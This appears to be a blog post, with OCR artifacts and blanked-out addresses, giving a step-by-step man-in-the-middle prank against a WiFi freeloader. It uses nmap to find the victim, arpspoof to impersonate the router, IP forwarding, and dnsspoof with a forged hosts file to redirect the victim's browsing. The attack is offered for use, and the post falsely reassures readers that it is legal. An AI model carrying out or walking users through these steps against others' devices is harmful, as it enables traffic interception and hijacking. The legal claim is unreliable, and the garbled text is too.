How to prevent someone from using your WiFi, or at least annoy them a little

Suppose you have a nasty free-loader on your personal WiFi. You could just block his MAC address via the router settings, but you want to mess with them. There are all sorts of things you could do, but I want to show you one option.

What I'm about to show you is fairly technical. If you know about networks in theory, you'll probably enjoy trying this. One last note before we start, for anyone this might seem scary to: "This is all possible on any computer and there's nothing illegal about it."

The general idea

In this post, I will show you how to make any site show up in the victims browser when they request content. I will give a proof of concept by having my blog show up in the browser when an unsuspecting victim requests some content. You might want to make their browser show when they request or when they request youtube. You will probably think of more fun sites to have show up in their address bar, but in any case, it is sure to confuse them

IP address of your router

The first thing you'll need is the address of your router and your own IP address:

$ ifconfig
           inet netmask XXX.XXX.XXX.X

You'll find your own IP address after inet. Usually you will find your router's IP address by replacing last digits of your own IP address by a 1. In this casethe router's IP address would be Also note the network interface you're using, in this case wlp3s0.

IP address of victim

The next thing you'll need is the IP address of your victim on the local network. You can try nmap-ing your network to see which IP addresses are registered.

$ sudo nmap -sn
Starting Nmap 6.47 ( ) at 2015-04-02 17:54 CEST
Nmap scan report for (
Host is up (0.0063s latency).
MAC Address: 78:24:AF:43:02:59 (Asustek Computer)

You'll be able to recognise the device by the brand between braces. In this case the victim's IP address would be

Impersonating a router

Now that you've found the victim, you're going to lie to it by telling it that you're the router and that it should send all its traffic through you.

                 interface   victim IP     router IP
$ sudo arpspoof -i wlp3s0 -tFrom now on, the victim's device will send its traffic to your computer, but you have to let it through:

$ sudo su
[root] $ echo '1' > /proc/sys/net/ipv4/ip_forward

The victims traffic

At this point, all that's left is to chose which site you want to show up in the victims browser. You'll have to write a fake hosts file, just like the one you have on your own system.$ cp /etc/hosts hosts.spoof

Now you can add any record you want to the hosts.spoof file:

$ cat hosts.spoof
# <ip-ddress>    <>   <hostname>

This file will make any request to google, facebook or youtube go to the IP address on the left.

All that's left to do now is start spoofing the DNS.

sudo dnsspoof -i wlp3s0 -f ~/hosts.spoof

At this point, the victim will end up at my blog when theyrequest some of the content. Note that if the victim has cached DNS requests, it will already know the IP address associated to the domain and not ask you for it. DNS caches usually time out after a day, so you will have to see this through for quite some time for recently visited domains to show up differently.

Do you think he plans it all out, or just makes it up as he goes along? - Becket'sOfficer

Looking for a lead engineer?

Hire me
If people do not believe that mathematics is simple, it is only because they do notrealize how complicated life is. - John von Neumann